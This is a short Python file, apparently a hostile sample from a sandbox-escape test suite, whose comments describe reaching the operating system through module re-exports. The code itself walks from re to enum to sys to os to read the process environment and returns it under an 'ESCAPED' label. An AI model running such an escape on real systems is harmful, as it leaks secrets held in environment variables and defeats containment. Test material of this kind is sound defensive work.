# ruff: noqa - a hostile script, kept as written
# threat: 1 reach the operating system
# technique: re.enum.sys.modules['os'].environ: the process environment
# naive exec: escapes: re re-exports enum, which re-exports sys; os.environ holds the secrets
import re
environ = re.enum.sys.modules["os"].environ
result = "ESCAPED " + str(dict(environ))
